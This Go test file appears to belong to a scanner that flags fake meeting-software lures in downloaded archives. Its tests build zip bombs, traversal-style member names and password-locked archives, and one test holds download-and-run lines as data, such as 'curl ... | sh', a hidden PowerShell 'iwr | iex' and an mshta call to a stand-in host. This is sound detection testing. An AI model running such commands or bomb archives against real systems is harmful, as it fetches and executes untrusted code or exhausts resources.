//go:build unix

package agent

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"

	"meetguard"
	"meetguard/internal/unpack"
	"meetguard/testdata/specimens"
)

// gzipped is one compressed file.
func gzipped(t testing.TB, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	_, err := w.Write(data)
	must(t, err)
	must(t, w.Close())
	return buf.Bytes()
}

func TestSingleCompressedFile(t *testing.T) {
	in := inspector(t, workerArg)
	for name, level := range map[string]meetguard.Level{"Zoom SDK Update.scpt.gz": meetguard.Malicious, "manual.1.gz": meetguard.Clean} {
		_, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name), gzipped(t, lureText())))
		if v.Level != level || level == meetguard.Malicious && v.Inner != "Zoom SDK Update.scpt" {
			t.Errorf("%s: level %s, inner %q", name, v.Level, v.Inner)
		}
	}
	exe := put(t, filepath.Join(t.TempDir(), "noname.gz"), gzipped(t, sample(t, unsignedExe)))
	if f, v := verdict(t, in, exe); len(f.Members) != 1 || f.Members[0].Format != meetguard.FormatPE || f.Members[0].Path != "noname" {
		t.Errorf("a program: %s %+v", v.Level, f.Members)
	}
}

// overlapping is an archive of many entries that are one and the same data: each
// entry unpacks it anew.
func overlapping(packed []byte, size, entries int) []byte {
	le := binary.LittleEndian
	local := make([]byte, 30+1)
	copy(local, "PK\x03\x04\x14\x00\x00\x00\x08\x00")
	le.PutUint32(local[18:], uint32(len(packed)))
	le.PutUint32(local[22:], uint32(size))
	le.PutUint16(local[26:], 1)
	local[30] = 'a'
	out := append(local, packed...)
	dir := len(out)
	for i := range entries {
		name := strconv.Itoa(i) + ".txt"
		entry := make([]byte, 46)
		copy(entry, "PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00")
		le.PutUint32(entry[20:], uint32(len(packed)))
		le.PutUint32(entry[24:], uint32(size))
		le.PutUint16(entry[28:], uint16(len(name)))
		out = append(append(out, entry...), name...)
	}
	end := make([]byte, 22)
	copy(end, "PK\x05\x06")
	le.PutUint16(end[8:], uint16(entries))
	le.PutUint16(end[10:], uint16(entries))
	le.PutUint32(end[12:], uint32(len(out)-dir))
	le.PutUint32(end[16:], uint32(dir))
	return append(out, end...)
}

func deflated(t testing.TB, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	must(t, err)
	_, err = w.Write(data)
	must(t, err)
	must(t, w.Close())
	return buf.Bytes()
}

// nestedBomb holds copies of itself, one level less deep.
func nestedBomb(t testing.TB, levels, copies, size int) []byte {
	inner, name := bytes.Repeat([]byte("a"), size), "a.txt"
	for range levels {
		members := map[string][]byte{}
		for i := range copies {
			members[strconv.Itoa(i)+name] = inner
		}
		inner, name = archive(t, members), ".zip"
	}
	return inner
}

func manyEntries(t testing.TB, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := range n {
		_, err := w.CreateHeader(&zip.FileHeader{Name: strconv.Itoa(i)})
		must(t, err)
	}
	must(t, w.Close())
	return buf.Bytes()
}

// TestHostileContainers: each ends within its budget and says so, and what comes
// after it is judged as ever.
func TestHostileContainers(t *testing.T) {
	in := inspector(t, workerArg)
	locked, err := os.ReadFile("../unpack/testdata/zip/aes256.zip")
	must(t, err)
	text := bytes.Repeat([]byte("all work and no play\n"), 1<<20)
	for name, tc := range map[string]struct {
		data []byte
		word string
	}{
		"flat.zip":        {archive(t, map[string][]byte{"zeros.exe": make([]byte, 120<<20)}), "times its size"},
		"flat.exe.gz":     {gzipped(t, append([]byte("MZ"), make([]byte, 100<<20)...)), "times its size"},
		"nested.zip":      {nestedBomb(t, 3, 10, 8<<20), "times its size"},
		"deep.zip":        {nestedBomb(t, 6, 1, 10), "more than 4 deep"},
		"overlap.zip":     {overlapping(deflated(t, text), len(text), 5000), "times its size"},
		"entries.zip":     {manyEntries(t, 100_000), "more entries"},
		"locked.zip":      {locked, "it is encrypted"},
		"truncated.zip":   {archive(t, map[string][]byte{"a.exe": bytes.Repeat([]byte("abc"), 1000)})[:100], "cut short"},
		"truncated.tgz":   {tarball(t, map[string][]byte{"a.exe": sample(t, unsignedExe)})[:2000], "cut short"},
		"truncated.sh.gz": {gzipped(t, sample(t, unsignedExe))[:5000], "cut short"},
	} {
		f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name), tc.data))
		if v.Level != meetguard.Incomplete || !strings.Contains(allGaps(f), tc.word) {
			t.Errorf("%s: level %s, gaps %s", name, v.Level, allGaps(f))
		}
		if _, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "after.zip"), archive(t, map[string][]byte{"Zoom SDK Update.scpt": lureText()}))); v.Level != meetguard.Malicious {
			t.Errorf("after %s: level %s", name, v.Level)
		}
	}
}

func allGaps(f meetguard.Facts) string {
	out := fmt.Sprint(f.Gaps)
	for _, m := range f.Members {
		out += allGaps(m)
	}
	return out
}

// TestPathsOfMembersAreText: they reach neither the disk nor the terminal.
func TestPathsOfMembersAreText(t *testing.T) {
	in := inspector(t, workerArg)
	dir := t.TempDir()
	name := "../../\x1b[31mevil\u202e/Zoom SDK Update.scpt"
	f, v := verdict(t, in, put(t, filepath.Join(dir, "a", "b", "x.zip"), archive(t, map[string][]byte{name: lureText()})))
	if v.Level != meetguard.Malicious {
		t.Errorf("level %s", v.Level)
	}
	if line := string(NewUnit(f, v).JSON()); strings.ContainsAny(line, "\x1b\u202e") {
		t.Errorf("a control character got out: %q", line)
	}
	left, err := filepath.Glob(filepath.Join(dir, "*"))
	must(t, err)
	if len(left) != 1 {
		t.Errorf("files beside the archive: %v", left)
	}
}

// dense is data that unpacks to about a hundred times its size: more would be
// ended by the ratio before it takes memory.
func dense(size int) []byte {
	out := bytes.Repeat([]byte("a"), size)
	state := uint32(1)
	for i := 0; i+40 < size; i += 6000 {
		for j := range 40 {
			state = state*1664525 + 1013904223
			out[i+j] = byte(state >> 24)
		}
	}
	return out
}

// TestMemoryOfNestedBombs: members of all layers together stay within the arena.
func TestMemoryOfNestedBombs(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the peak of a process is read from /proc, which only Linux has")
	}
	in := inspector(t, workerArg)
	pad := dense(50 << 20)
	data := append([]byte("MZ"), pad...)
	for i, name := range []string{"a.exe", "a.zip", "a.zip", "a.zip"} {
		var buf bytes.Buffer
		w := zip.NewWriter(&buf)
		w.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, flate.BestSpeed) })
		for _, h := range []zip.FileHeader{{Name: "pad.go", Method: zip.Store}, {Name: name, Method: zip.Deflate}} {
			f, err := w.CreateHeader(&h)
			must(t, err)
			if h.Method == zip.Deflate {
				_, err = f.Write(data)
			} else if i < 3 {
				_, err = f.Write(pad)
			}
			must(t, err)
		}
		must(t, w.Close())
		data = buf.Bytes()
	}
	f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "bomb.zip"), data))
	if v.Level != meetguard.Incomplete || !strings.Contains(allGaps(f), errTooLarge.Error()) {
		t.Errorf("level %s, gaps %s", v.Level, allGaps(f))
	}
	peak := peakOfChildren(t)
	if t.Logf("the worker took %d MiB at most, for a file of %d KiB", peak>>20, len(data)>>10); peak > 256<<20 || peak < 100<<20 {
		t.Errorf("the worker took %d MiB", peak>>20)
	}
}

// peakOfChildren is the most memory, in bytes, that a child had in use.
func peakOfChildren(t *testing.T) (most int64) {
	t.Helper()
	tasks, err := filepath.Glob("/proc/self/task/*/children")
	must(t, err)
	for _, task := range tasks {
		pids, _ := os.ReadFile(task)
		for pid := range strings.FieldsSeq(string(pids)) {
			status, _ := os.ReadFile("/proc/" + pid + "/status")
			_, rest, found := strings.Cut(string(status), "VmHWM:")
			if !found {
				continue
			}
			kib, err := strconv.ParseInt(strings.Fields(rest)[0], 10, 64)
			must(t, err)
			most = max(most, kib<<10)
		}
	}
	if most == 0 {
		t.Fatal("no worker was found")
	}
	return most
}

// TestPasswords: those that are written down open an archive, and are not told.
func TestPasswords(t *testing.T) {
	in := inspector(t, workerArg)
	lure := lureText()
	for name, tc := range map[string]struct {
		password string
		members  map[string][]byte // not encrypted
		comment  string
		from     string
	}{
		"Zoom_pass_1234.zip":      {"1234", nil, "", fromName},
		"pw-2024.zip":             {"2024", nil, "", fromName},
		"Zoom setup (s3cret).zip": {"s3cret", nil, "", fromName},
		"Zoom Einladung.zip":      {"x!Y7", map[string][]byte{"LIESMICH.txt": []byte("Passwort: x!Y7.\r\n")}, "", fromText},
		"会议.zip":                  {"8866", map[string][]byte{"说明.txt": []byte("解压密码：8866\n")}, "", fromText},
		"запись.zip":              {"qwe", map[string][]byte{"readme.txt": []byte("Пароль - qwe")}, "", fromText},
		"neighbour.zip":           {"777", map[string][]byte{"password 777.txt": nil}, "", fromNeighbour},
		"comment.zip":             {"hunter2", nil, "password is hunter2", fromComment},
	} {
		data := lockedZip(t, tc.password, "Zoom SDK Update.scpt", lure, tc.members, tc.comment)
		f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name), data))
		if v.Level != meetguard.Malicious || v.Inner != "Zoom SDK Update.scpt" || f.Unlocked != tc.from || len(f.Gaps) > 0 {
			t.Errorf("%s: level %s, inner %q, unlocked by %q, gaps %v", name, v.Level, v.Inner, f.Unlocked, f.Gaps)
		}
	}
	data := lockedZip(t, "never written", "Zoom SDK Update.scpt", lure, nil, "")
	if f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "locked.zip"), data)); v.Level != meetguard.Incomplete || f.Unlocked != "" {
		t.Errorf("without the password: level %s, unlocked by %q", v.Level, f.Unlocked)
	}
	around := archive(t, map[string][]byte{"in.zip": lockedZip(t, "4711", "Zoom SDK Update.scpt", lure, nil, "")})
	if f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "files pw 4711.zip"), around)); v.Level != meetguard.Malicious || f.Members[0].Unlocked != fromAround {
		t.Errorf("password around: level %s, %+v", v.Level, f.Members)
	}
}

// lockedZip is an archive with one encrypted file (APPNOTE 6.1).
func lockedZip(t testing.TB, password, name string, data []byte, open map[string][]byte, comment string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for n, d := range open {
		f, err := w.Create(n)
		must(t, err)
		_, err = f.Write(d)
		must(t, err)
	}
	packed := deflated(t, data)
	sum := crc32.ChecksumIEEE(data)
	plain := append(append(make([]byte, 11), byte(sum>>24)), packed...)
	f, err := w.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, Flags: 1, CRC32: sum, CompressedSize64: uint64(len(plain)), UncompressedSize64: uint64(len(data))})
	must(t, err)
	_, err = f.Write(encrypted(password, plain))
	must(t, err)
	must(t, w.SetComment(comment))
	must(t, w.Close())
	return buf.Bytes()
}

func encrypted(password string, plain []byte) []byte {
	k := [3]uint32{0x12345678, 0x23456789, 0x34567890}
	update := func(b byte) {
		k[0] = crc32.IEEETable[byte(k[0])^b] ^ k[0]>>8
		k[1] = (k[1]+k[0]&0xff)*134775813 + 1
		k[2] = crc32.IEEETable[byte(k[2])^byte(k[1]>>24)] ^ k[2]>>8
	}
	for i := range len(password) {
		update(password[i])
	}
	out := make([]byte, len(plain))
	for i, b := range plain {
		t := uint16(k[2]) | 2
		out[i] = b ^ byte(t*(t^1)>>8)
		update(b)
	}
	return out
}

// TestRolesOfMembers: what a container does with a member decides how it is
// looked at.
func TestRolesOfMembers(t *testing.T) {
	ex, err := NewExaminer(ExaminerConfig{})
	must(t, err)
	ex.unit.begin(1<<20, ex.now)
	t.Cleanup(ex.unit.arena.tidy)
	fetch := []byte("curl -fsSL https://fix.invalid/a | sh\n")
	for _, tc := range []struct {
		m        unpack.Member
		content  []byte
		language string // "" if nothing is kept of it
		gap      string
	}{
		{unpack.Member{Name: "Scripts/check", Role: unpack.RoleScript}, fetch, "shell", ""},
		{unpack.Member{Name: "Run", Role: unpack.RoleAction}, []byte("powershell -w hidden -c \"iwr https://fix.invalid/a | iex\"\r\n"), "batch", ""},
		{unpack.Member{Name: "Run.vbs", Role: unpack.RoleAction}, []byte("CreateObject(\"WScript.Shell\").Run \"mshta https://fix.invalid/a\"\r\n"), "vbscript", ""},
		{unpack.Member{Name: "notes", Role: ""}, []byte("hello\n"), "", ""},
		{unpack.Member{Name: "link.sh", Role: unpack.RoleLink}, fetch, "", ""},
		{unpack.Member{Name: "sh", Role: unpack.RoleFolder}, fetch, "", ""},
		{unpack.Member{Name: "partition", Role: unpack.RoleStream}, fetch, "", "only searched"},
		{unpack.Member{Name: "x.sh", Locked: true}, nil, "", "it is encrypted"},
		{unpack.Member{Name: "__MACOSX/._x.sh"}, []byte("\x00\x05\x16\x07\x00\x02\x00\x00 curl https://fix.invalid | sh"), "", ""},
	} {
		f := &meetguard.Facts{Format: meetguard.FormatISO}
		o := &opening{ex: ex, f: f, format: f.Format, name: "x.iso"}
		tc.m.Size = int64(len(tc.content))
		tc.m.Open = func() (io.Reader, error) { return bytes.NewReader(tc.content), nil }
		o.walk = func(_ meetguard.Format, _ []byte, _ unpack.Options, visit unpack.Visit) error { return visit(tc.m) }
		o.open()
		language := ""
		if len(f.Members) > 0 && f.Members[0].Script != nil {
			language = f.Members[0].Script.Language
		}
		if language != tc.language || language != "" && f.Members[0].Role != tc.m.Role || !strings.Contains(allGaps(*f), tc.gap) || tc.gap == "" && len(f.Gaps) > 0 {
			t.Errorf("%s (%s): %q, members %+v, gaps %v", tc.m.Name, tc.m.Role, language, f.Members, f.Gaps)
		}
	}
}

// TestStreamsAreMatchedInPieces: a pattern across the border of two is found, and
// each rule is told once.
func TestStreamsAreMatchedInPieces(t *testing.T) {
	folder := t.TempDir()
	put(t, filepath.Join(folder, "other", "a.yar"), []byte("rule marker { strings: $a = \"the marker of this test\" condition: $a }"))
	ex, err := NewExaminer(ExaminerConfig{Rules: folder})
	must(t, err)
	ex.unit.begin(1<<30, ex.now)
	t.Cleanup(ex.unit.arena.tidy)
	content := make([]byte, 2*maxStreamWindow)
	copy(content[maxStreamWindow-10:], "the marker of this test")
	copy(content[100:], "the marker of this test")
	f := &meetguard.Facts{Format: meetguard.FormatDMG}
	o := &opening{ex: ex, f: f, format: f.Format, name: "x.dmg"}
	must(t, o.visit(unpack.Member{Name: "partition", Role: unpack.RoleStream, Open: func() (io.Reader, error) { return bytes.NewReader(content[50+60:]), nil }}))
	if len(f.Members) != 1 || len(f.Members[0].Matches) != 1 || f.Members[0].Size != int64(len(content)-110) {
		t.Errorf("members %+v", f.Members)
	}
}

// TestWhatEndsAWalk: a container that is not opened is not clean, but a program
// is no container.
func TestWhatEndsAWalk(t *testing.T) {
	for _, tc := range []struct {
		format meetguard.Format
		err    error
		gap    string
		blind  bool
	}{
		{meetguard.FormatISO, nil, "", false},
		{meetguard.FormatISO, unpack.ErrUnsupported, "does not open iso", true},
		{meetguard.FormatPE, unpack.ErrUnsupported, "", false},
		{meetguard.FormatPE, fmt.Errorf("this Inno Setup is newer: %w", unpack.ErrUnsupported), "Inno Setup", true},
		{meetguard.FormatPE, fmt.Errorf("the files of this setup: %w", unpack.ErrPartial), "files of this setup", false},
		{meetguard.FormatDMG, fmt.Errorf("its files cannot be listed: %w", unpack.ErrUnsupported), "cannot be listed", true},
		{meetguard.Format7z, unpack.ErrLocked, "encrypted", true},
		{meetguard.Format7z, &unpack.LimitError{What: "too much"}, "too much", true},
		{meetguard.Format7z, errors.New("the list is cut short"), "cut short", true},
	} {
		f := &meetguard.Facts{Format: tc.format}
		o := &opening{ex: &Examiner{}, f: f, format: tc.format, name: "x"}
		o.walk = func(meetguard.Format, []byte, unpack.Options, unpack.Visit) error { return tc.err }
		o.open()
		if (len(f.Gaps) > 0) != (tc.gap != "") || len(f.Gaps) > 0 && (f.Gaps[0].Blinding != tc.blind || !strings.Contains(f.Gaps[0].Reason, tc.gap)) {
			t.Errorf("%s, %v: %v", tc.format, tc.err, f.Gaps)
		}
	}
}

func TestWordsThatMayBePasswords(t *testing.T) {
	for name, want := range map[string]string{"Zoom_pass_1234.zip": "1234", "pw-2024.7z": "2024", "Zoom (s3cret).rar": "s3cret", "Update [pw=abc].zip": "abc",
		"Passwort: x!Y7.": "x!Y7", "解压密码：8866": "8866", "パスワードは kaigi です": "kaigi", "contraseña: hola": "hola", "mot de passe : réunion": "réunion", "Password is “open”": "open"} {
		if got := append(namedPasswords(name), writtenPasswords(name)...); !slices.Contains(got, want) {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
	for _, name := range []string{"setup.zip", "Zoom Workplace.zip"} {
		if got := namedPasswords(name); len(got) > 0 {
			t.Errorf("%q: %q", name, got)
		}
	}
}

// TestPasswordBeside: the password of an archive stands in a text beside it, in
// the folder or in the archive around it, before or behind.
func TestPasswordBeside(t *testing.T) {
	in := inspector(t, workerArg)
	locked := lockedZip(t, "m33ting!", "Zoom SDK Update.scpt", lureText(), nil, "")
	note := []byte("Password: m33ting!\r\n")
	on := func(dir string, files map[string][]byte) string {
		for name, data := range files {
			put(t, filepath.Join(dir, name), data)
		}
		return filepath.Join(dir, "files.zip")
	}
	for name, tc := range map[string]struct {
		path  string
		level meetguard.Level
	}{
		"in the folder":         {on(t.TempDir(), map[string][]byte{"files.zip": locked, "read me.txt": note}), meetguard.Malicious},
		"in a long text":        {on(t.TempDir(), map[string][]byte{"files.zip": locked, "read me.txt": append(note, make([]byte, maxNote)...)}), meetguard.Incomplete},
		"of another":            {on(t.TempDir(), map[string][]byte{"files.zip": locked, "read me.txt": []byte("Password: other")}), meetguard.Incomplete},
		"in the archive around": {on(t.TempDir(), map[string][]byte{"files.zip": archive(t, map[string][]byte{"a/inner.zip": locked, "a/z note.txt": note})}), meetguard.Malicious},
		"nowhere":               {on(t.TempDir(), map[string][]byte{"files.zip": locked}), meetguard.Incomplete},
	} {
		f, v := verdict(t, in, tc.path)
		if v.Level != tc.level {
			t.Errorf("%s: %s, want %s; gaps %v", name, v.Level, tc.level, f.Gaps)
		}
		if opened := f.Unlocked + strings.Join(unlockedMembers(f), ""); (opened == fromText) != (tc.level == meetguard.Malicious) {
			t.Errorf("%s: opened with %q", name, opened)
		}
	}
}

func unlockedMembers(f meetguard.Facts) (out []string) {
	for _, m := range f.Members {
		out = append(out, m.Unlocked)
	}
	return out
}

// TestDullKeepsDatabases: an MSI is told by parts far behind its start.
func TestDullKeepsDatabases(t *testing.T) {
	head := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 4088)...)
	if dull("update.msi", head) || dull("update", head) || !dull("update.bin", head[8:]) {
		t.Error("what may be an MSI is looked at, and noise is not")
	}
}

// TestCompressedMembersAreOpened: one compressed file in an archive is opened like
// one beside it, also if its bytes look like noise.
func TestCompressedMembersAreOpened(t *testing.T) {
	in := inspector(t, workerArg)
	var noise strings.Builder // makes the packed bytes many
	for i := range 300 {
		fmt.Fprintf(&noise, "-- %x\n", sha256.Sum256([]byte{byte(i), byte(i >> 8)}))
	}
	lure := append([]byte(noise.String()), lureText()...)
	program := append(bytes.Clone(specimens.Bare()["exe"]), lure...)
	for name, tc := range map[string]struct {
		kind, inner string
		data        []byte
	}{
		"a script":            {"gz", "Zoom SDK Update.scpt", lure},
		"a script, xz":        {"xz", "Zoom SDK Update.scpt", lure},
		"a script, zstandard": {"zst", "Zoom SDK Update.scpt", lure},
		"a program":           {"gz", "Zoom.exe", program},
		"a nameless program":  {"gz", "Zoom", program},
	} {
		packed := specimens.Box(tc.kind, tc.inner, tc.data)
		for _, outer := range []string{"zip", "tar", "7z"} {
			data := specimens.Box(outer, tc.inner+"."+tc.kind, packed)
			f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "kit."+outer), data))
			if v.Level != meetguard.Malicious && v.Level != meetguard.Suspicious {
				t.Errorf("%s in %s: %s, %v", name, outer, v.Level, f.Gaps)
			}
		}
	}
}
